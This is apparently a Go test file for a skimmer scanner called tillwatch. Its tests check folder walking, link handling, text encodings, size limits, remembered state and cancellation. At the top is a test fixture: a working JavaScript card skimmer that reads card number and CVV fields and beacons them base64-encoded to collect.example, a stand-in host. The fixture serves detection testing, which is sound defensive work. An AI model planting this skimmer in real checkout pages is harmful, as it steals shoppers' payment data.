package files

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/text/encoding/japanese"

	"github.com/tillwatch/tillwatch"
)

// thief is a skimmer of our own that sends nowhere: example names belong to nobody.
const thief = `document.querySelector('#pay').addEventListener('click', function () {
  var n = document.querySelector('input[name=cc_number]').value, c = document.querySelector('input[name=cc_cvv]').value;
  new Image().src = 'https://collect.example/p.gif?d=' + btoa(n + '|' + c);
});
`

// folder writes files into a new folder.
func folder(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		file := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// told is everything that a look reported, by kind and with places below the folder.
type told struct {
	signs  []tillwatch.Sign
	items  []tillwatch.Item
	gaps   []tillwatch.Gap
	passes []tillwatch.Pass
	all    []string // in order
}

func observe(t *testing.T, c Config, place string) told {
	t.Helper()
	var out told
	below := func(name string) string {
		name = strings.TrimPrefix(strings.TrimPrefix(name, place), string(filepath.Separator))
		return filepath.ToSlash(name)
	}
	err := New(c).Observe(t.Context(), tillwatch.Target{Kind: tillwatch.KindFiles, Place: place, Shop: place}, func(o tillwatch.Observation) error {
		switch o := o.(type) {
		case tillwatch.Sign:
			o.Place = below(o.Place)
			out.signs = append(out.signs, o)
			out.all = append(out.all, fmt.Sprintf("%s %s %s", o.Severity, o.Rule, o.Place))
		case tillwatch.Item:
			o.Place = below(o.Place)
			out.items = append(out.items, o)
			out.all = append(out.all, "item "+o.Place)
		case tillwatch.Gap:
			o.Place = below(o.Place)
			out.gaps = append(out.gaps, o)
			out.all = append(out.all, "gap "+o.Place+": "+o.Why)
		case tillwatch.Pass:
			out.passes = append(out.passes, o)
			out.all = append(out.all, "pass")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestAFolderIsReportedInTheOrderOfTheNames(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{
		"index.html":                "<html><script>var a = 1;</script></html>",
		"js/a.js":                   "var a = 1;",
		"js/b.MJS":                  "export var b = 2;",
		"js/thief.js":               thief,
		"js/readme.txt":             "nothing to run",
		"node_modules/x/index.js":   "var x = 1;",
		".git/hooks/not-looked.js":  thief,
		"views/order.twig":          "<script>var total = {{ order.total }}; {% if a %}go();{% endif %}</script>",
		"pages/cart.php":            "<?php $a = '?>'; ?><script>var n = <?= $n ?>;</script>",
		"pages/theft.phtml":         "<p><script>\n" + thief + "</script>",
		"pages/pure.php":            "<?php echo 1;",
		"pages/picture.svg":         `<?xml version="1.0"?><svg onload="draw()"/>`,
		"broken/half.js":            "function (",
		"broken/empty.js":           "",
		"node_modules/x/thief.html": "<script>" + thief + "</script>",
	})
	got := observe(t, Config{}, dir)
	want := []string{
		"item index.html",
		"item broken/empty.js",
		"low files/script-unparsable broken/half.js", "item broken/half.js",
		"item js/a.js", "item js/b.MJS", "item js/readme.txt",
		"high files/skimmer js/thief.js", "item js/thief.js",
		"high files/skimmer node_modules/x/thief.html",
		"item pages/cart.php", "item pages/picture.svg", "item pages/pure.php",
		"high files/skimmer pages/theft.phtml", "item pages/theft.phtml",
		"item views/order.twig",
		"pass",
	}
	if !slices.Equal(got.all, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got.all, "\n"), strings.Join(want, "\n"))
	}
}

func TestASkimmerIsExplained(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"shop.js": "var first = 1;\n" + thief})
	got := observe(t, Config{}, filepath.Join(dir, "shop.js"))
	if len(got.signs) != 1 || len(got.items) != 1 || len(got.gaps) > 0 {
		t.Fatalf("got %q", got.all)
	}
	sign := got.signs[0]
	if sign.Certainty != tillwatch.Likely || !reflect.DeepEqual(sign.Data, []string{"card"}) || !strings.Contains(sign.Summary, "collect.example") {
		t.Errorf("sign %+v", sign)
	}
	e := sign.Evidence[0]
	if e.Line != 4 || e.Column == 0 || e.Destination != "//collect.example" || e.Where != filepath.Join(dir, "shop.js") {
		t.Errorf("evidence %+v", e)
	}
	item := got.items[0]
	if !slices.Contains(item.Capabilities, tillwatch.Reads("card")) || !slices.Contains(item.Capabilities, tillwatch.Sends("collect.example")) ||
		!strings.HasPrefix(item.Digest, "sha256:") || item.Content.Len() == 0 {
		t.Errorf("item %+v", item)
	}
}

func TestProvidersAndTheShopItselfMayReceive(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"a.js": thief})
	for name, c := range map[string]Config{
		"own host": {Own: "collect.example"},
		"trusted":  {Trusted: func(host string) bool { return host == "collect.example" }},
	} {
		for _, s := range observe(t, c, dir).signs {
			if s.Severity > tillwatch.Medium {
				t.Errorf("%s: %+v", name, s)
			}
		}
	}
}

func TestLinksStayWithinTheFolder(t *testing.T) {
	t.Parallel()
	outside := folder(t, map[string]string{"far.js": thief, "folder/x.js": thief})
	dir := folder(t, map[string]string{"a/real.js": "var a;", "a/stored.v3": thief})
	for name, to := range map[string]string{
		"cycle":      ".",
		"a/again.js": "real.js",
		"named.js":   filepath.Join(dir, "a", "stored.v3"),
		"far.js":     filepath.Join(outside, "far.js"),
		"far":        filepath.Join(outside, "folder"),
		"broken.js":  "nowhere",
	} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Skip("no symbolic links here:", err)
		}
	}
	got := observe(t, Config{}, dir)
	const why = ": this link leads out of the folder and was not followed: name where it leads as well"
	want := []string{"gap far" + why, "gap far.js" + why, "high files/skimmer named.js", "item named.js", "item a/real.js", "item a/stored.v3"}
	if !slices.Equal(got.all, want) {
		t.Errorf("got %q", got.all)
	}
	if err := os.Symlink(dir, filepath.Join(outside, "current")); err != nil {
		t.Fatal(err)
	}
	if got := observe(t, Config{}, filepath.Join(outside, "current")); len(got.items) != 3 {
		t.Errorf("through a link: %q", got.all)
	}
}

func TestWhatCannotBeLookedAtIsAGap(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"a.js": "var a;", "readme.txt": "x"})
	if got := observe(t, Config{}, filepath.Join(dir, "none")); len(got.gaps) != 1 || len(got.passes) > 0 {
		t.Errorf("missing: %q", got.all)
	}
	empty := t.TempDir()
	if got := observe(t, Config{}, empty); len(got.gaps) != 1 || !strings.Contains(got.gaps[0].Why, "there is no file here") || len(got.passes) > 0 {
		t.Errorf("empty: %q", got.all)
	}
	if got := observe(t, Config{}, os.DevNull); len(got.gaps) != 1 {
		t.Errorf("a device: %q", got.all)
	}
	if os.Geteuid() == 0 {
		return // to whom nothing is unreadable
	}
	if err := os.Chmod(filepath.Join(dir, "a.js"), 0); err != nil {
		t.Fatal(err)
	}
	if got := observe(t, Config{}, dir); len(got.gaps) != 1 || len(got.items)+len(got.passes) > 0 {
		t.Errorf("unreadable: %q", got.all)
	}
}

func TestAFileNamedAloneIsReadByItsContent(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"script.bin": thief, "page.bin": " <!doctype html><script>" + thief + "</script>"})
	for _, name := range []string{"script.bin", "page.bin"} {
		if got := observe(t, Config{}, filepath.Join(dir, name)); len(got.signs) != 1 || got.signs[0].Severity != tillwatch.High {
			t.Errorf("%s: %q", name, got.all)
		}
	}
}

func TestTextsInOtherEncodings(t *testing.T) {
	t.Parallel()
	for name, encoder := range map[string]func(string) (string, error){
		"Shift_JIS": japanese.ShiftJIS.NewEncoder().String,
		"EUC-JP":    japanese.EUCJP.NewEncoder().String,
		"broken":    func(s string) (string, error) { return "/* \xff\xfe\x80 */" + s, nil },
	} {
		text, err := encoder("/* 購入手続きの確認 */\n" + thief)
		if err != nil {
			t.Fatal(err)
		}
		got := observe(t, Config{}, folder(t, map[string]string{"a.js": text}))
		if len(got.signs) != 1 || got.signs[0].Severity != tillwatch.High || got.signs[0].Evidence[0].Line != 4 {
			t.Errorf("%s: %+v", name, got.signs)
		}
	}
}

func TestWhatIsTooMuchIsSaid(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{
		"deep.js":  strings.Repeat("(", 2<<20),
		"large.js": strings.Repeat("var filler = 'nothing to see here';\n", 60<<20/36),
	})
	got := observe(t, Config{}, dir)
	var rules []string
	for _, s := range got.signs {
		rules = append(rules, s.Place+" "+s.Rule+" "+s.Severity.String())
	}
	if want := []string{"deep.js files/script-unparsable low", "large.js files/script-unparsable low"}; !slices.Equal(rules, want) {
		t.Errorf("got %q", rules)
	}
}

func TestBeyondTheBoundIsAGap(t *testing.T) {
	t.Parallel()
	file := filepath.Join(t.TempDir(), "sparse.js")
	if err := os.WriteFile(file, []byte("var a;\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(file, 80<<20); err != nil {
		t.Fatal(err)
	}
	got := observe(t, Config{}, file)
	if len(got.gaps) != 1 || !strings.Contains(got.gaps[0].Why, "it is 80 MB large: only the first 64 MB") || len(got.items) != 1 || len(got.passes) > 0 {
		t.Errorf("got %q", got.all)
	}
}

// kept is a state in memory.
type kept struct {
	mu     sync.Mutex
	values map[string][]byte
}

func (k *kept) Load(key string) ([]byte, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	return k.values[key], nil
}

func (k *kept) Save(key string, value []byte) error {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.values[key] = value
	return nil
}

func TestWhatIsRememberedIsTheSame(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"thief.js": thief, "half.js": "function (", "a.html": "<script>fetch('/a')</script>"})
	state := &kept{values: map[string][]byte{}}
	c := Config{State: state, Edition: "one"}
	first, again := observe(t, c, dir), observe(t, c, dir)
	for _, told := range []*told{&first, &again} {
		told.passes = nil // they have times
	}
	if !reflect.DeepEqual(first.all, again.all) || !reflect.DeepEqual(first.signs, again.signs) {
		t.Errorf("got %+v, then %+v", first, again)
	}
	for key, value := range state.values {
		if strings.Contains(string(value), "cc_number') .value") {
			t.Errorf("%s holds the script", key)
		}
		if strings.HasPrefix(key, "outcomes") {
			state.values[key] = []byte(`{"edition":"one ","outcomes":`)
		}
	}
	if got := observe(t, c, dir); !reflect.DeepEqual(first.all, got.all) {
		t.Errorf("after damage: %q", got.all)
	}
}

func TestAnUnchangedFolderIsTheSameEveryTime(t *testing.T) {
	t.Parallel()
	files := map[string]string{}
	for i := range 300 {
		files[fmt.Sprintf("d%d/f%03d.js", i%7, i)] = fmt.Sprintf("var v = %d;\n", i)
		if i%50 == 0 {
			files[fmt.Sprintf("d%d/t%03d.js", i%7, i)] = thief + fmt.Sprintf("var v = %d;\n", i)
		}
	}
	dir := folder(t, files)
	first := observe(t, Config{}, dir)
	for range 3 {
		if again := observe(t, Config{}, dir); !slices.Equal(first.all, again.all) {
			t.Fatal("another order, or other signs")
		}
	}
}

func TestStopsWhereItIsTold(t *testing.T) {
	t.Parallel()
	files := map[string]string{}
	for i := range 200 {
		files[fmt.Sprintf("f%03d.js", i)] = fmt.Sprintf("var v = %d;\n", i)
	}
	target := tillwatch.Target{Kind: tillwatch.KindFiles, Place: folder(t, files)}
	full := errors.New("full")
	err := New(Config{}).Observe(t.Context(), target, func(tillwatch.Observation) error { return full })
	if !errors.Is(err, full) {
		t.Errorf("report failed, but got %v", err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	n := 0
	err = New(Config{}).Observe(ctx, target, func(tillwatch.Observation) error {
		if n++; n == 10 {
			cancel()
		}
		return nil
	})
	if !errors.Is(err, context.Canceled) || n == 200 {
		t.Errorf("got %v after %d", err, n)
	}
}

func TestALookThatIsStoppedForgetsNothing(t *testing.T) {
	t.Parallel()
	dir := folder(t, map[string]string{"a.js": "fetch('https://x.example/a');", "b.js": "fetch('https://x.example/b');", "c.js": "fetch('https://x.example/c');"})
	state := &kept{values: map[string][]byte{}}
	c := Config{State: state}
	observe(t, c, dir)
	before := maps.Clone(state.values)
	ctx, cancel := context.WithCancel(t.Context())
	target := tillwatch.Target{Kind: tillwatch.KindFiles, Place: dir, Shop: dir}
	err := New(c).Observe(ctx, target, func(tillwatch.Observation) error { cancel(); return nil })
	if err != nil && !errors.Is(err, context.Canceled) {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(state.values, before) {
		t.Errorf("remembered %q, before %q", state.values, before)
	}
}

func TestOfVeryManyFilesThoseAreItemsThatDoSomething(t *testing.T) {
	t.Parallel()
	files := map[string]string{"sends.js": "fetch('https://x.example/');"}
	for i := range maxItems {
		files[fmt.Sprintf("%d.js", i)] = "var a;"
	}
	got := observe(t, Config{}, folder(t, files))
	if len(got.items) != 1 || got.items[0].Place != "sends.js" || len(got.passes)+len(got.gaps) > 0 {
		t.Errorf("%d items, %d passes, %q", len(got.items), len(got.passes), got.gaps)
	}
}
